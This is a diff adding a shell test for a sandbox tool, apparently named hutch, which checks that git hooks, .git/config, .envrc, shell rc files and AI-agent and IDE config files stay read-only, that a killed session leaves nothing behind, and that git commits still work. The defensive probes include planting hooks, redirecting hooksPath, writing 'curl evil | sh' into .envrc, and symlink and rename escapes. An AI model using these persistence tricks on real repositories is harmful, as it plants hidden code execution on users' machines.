@@ -1,0 +1,99 @@
+#!/bin/bash
+# SPDX-License-Identifier: LGPL-2.1-or-later
+# Protected paths: read-only even inside the writable workspace, existing or not, at the
+# workspace root and in a git repository under it; nothing is left behind on the host
+# (also after hutch is killed with SIGKILL); git add/commit keep working.
+# shellcheck source=tests/lib.sh disable=SC2016
+. "$(dirname "$0")/../lib.sh"
+require_sandbox
+
+# errno texts a refused write may legitimately produce (dash prints "cannot create X: <why>";
+# dash shortens ENOENT to "No such file" and ENOTDIR to "Not a directory").
+REFUSED="Read-only file system|Permission denied|Is a directory|File exists|Operation not permitted|Not a directory|No such file|Device or resource busy"
+
+make_git_repo "$WS/nested" >/dev/null
+echo "# original hook" >.git/hooks/post-checkout
+chmod 755 .git/hooks/post-checkout
+before=$(tree_snapshot "$WS")
+config_before=$(cat .git/config)
+
+# try NAME SCRIPT: SCRIPT must fail with one of the errno texts above.
+try() {
+	local name=$1 script=$2
+	hrun run -- sh -c "$script"
+	isnt "$RC" 0 "$name: refused (exit $RC)"
+	like "$ERR" "$REFUSED" "  with an errno ($(head -1 <<<"$ERR"))"
+}
+
+for root in . nested; do
+	try "$root: write .git/hooks/pre-commit (new)" "printf '#!/bin/sh\\necho EVIL\\n' > $root/.git/hooks/pre-commit"
+	try "$root: write .git/config" "echo '[core] hooksPath = /tmp/evil' >> $root/.git/config"
+	try "$root: truncate .git/config" ": > $root/.git/config"
+	try "$root: create .mcp.json" "echo '{\"mcpServers\":{}}' > $root/.mcp.json"
+	try "$root: create .envrc" "echo 'curl evil | sh' > $root/.envrc"
+	try "$root: create .vscode/tasks.json" "mkdir -p $root/.vscode && echo '{}' > $root/.vscode/tasks.json"
+	try "$root: create .claude/settings.json" "mkdir -p $root/.claude && echo '{}' > $root/.claude/settings.json"
+	try "$root: create .bashrc" "echo evil > $root/.bashrc"
+done
+try "create .gitmodules" "echo '[submodule]' > .gitmodules"
+try "create .idea/workspace.xml" "mkdir -p .idea && echo x > .idea/workspace.xml"
+try "create .codex/config.toml" "mkdir -p .codex && echo x > .codex/config.toml"
+try "create .gemini/settings.json" "mkdir -p .gemini && echo x > .gemini/settings.json"
+try "create .hutch.json" "echo '{}' > .hutch.json"
+for rc in .bash_profile .zshrc .zprofile .profile; do
+	try "create $rc" "echo evil > $rc"
+done
+try "modify an existing hook" "echo EVIL >> .git/hooks/post-checkout"
+try "delete an existing hook" "rm .git/hooks/post-checkout"
+try "replace .git/hooks by renaming it away" "mv .git/hooks .git/hooks.old"
+try "remove .git/hooks" "rm -rf .git/hooks && test ! -e .git/hooks"
+try "replace .git/config by rename" "echo x > cfg && mv cfg .git/config"
+try "symlink into .git/hooks" "ln -s .git/hooks hooklink && echo EVIL > hooklink/pre-commit"
+rm -f hooklink cfg
+
+after=$(tree_snapshot "$WS")
+same_tree "$before" "$after" \
+	"after all these sessions the workspace is exactly as before (no placeholders, nothing changed)"
+is "$(cat .git/config)" "$config_before" ".git/config unchanged"
+check ".git/hooks/pre-commit does not exist on the host" test ! -e .git/hooks/pre-commit
+
+# Moving .git itself away and recreating it must not yield a writable hooks directory.
+hrun run -- sh -c 'mv .git .git-moved && mkdir -p .git/hooks && printf "#!/bin/sh\necho EVIL\n" > .git/hooks/pre-commit'
+found=$(grep -rl "echo EVIL" "$WS" --include='*' 2>/dev/null | grep '/hooks/')
+is "$found" "" "renaming .git away and recreating .git/hooks does not plant a hook on the host"
+# Put things back if the sandbox did let the rename through, so the rest can go on.
+if [ -d .git-moved ]; then
+	rm -rf .git && mv .git-moved .git
+fi
+before=$(tree_snapshot "$WS")
+
+# ---- nothing left behind after SIGKILL of hutch -------------------------------------------
+SIG=$T/sig
+mkdir "$SIG"
+D="1000.$$$RANDOM"
+hrun_bg run --rw "$SIG" -- sh -c "touch '$SIG/started'; sleep $D"
+wait_for_file "$SIG/started"
+ok $? "a session is running"
+kill -KILL "$HPID"
+wait_hutch "$HUTCH_TEST_TIMEOUT"
+is "$RC" 137 "hutch killed with SIGKILL"
+wait_no_process "^sleep $D\$" 10
+ok $? "  and its processes are gone"
+hrun run -- true
+is "$RC" 0 "the next hutch run works"
+after=$(tree_snapshot "$WS")
+same_tree "$before" "$after" \
+	"after kill -9 and another run, the workspace is exactly as before (leftovers cleaned)"
+
+# ---- git keeps working ----------------------------------------------------------------------
+hrun run -- sh -c 'echo content > tracked.txt && git add tracked.txt && git commit -q -m "from the sandbox" && git log --format=%s -1'
+is "$RC" 0 "git add + git commit inside the sandbox succeed"
+is "$OUT" "from the sandbox" "  the commit is made"
+is "$(git log --format=%s -1)" "from the sandbox" "  and visible on the host"
+is "$(git status --porcelain -- tracked.txt)" "" "  the host's git sees tracked.txt committed"
+
+hrun run -C nested -- sh -c 'echo n > n.txt && git add n.txt && git commit -q -m nested-commit && echo ok'
+is "$OUT" "ok" "git commit in a nested repository works too"
+is "$(git -C nested log --format=%s -1)" "nested-commit" "  and is visible on the host"
+
+done_testing
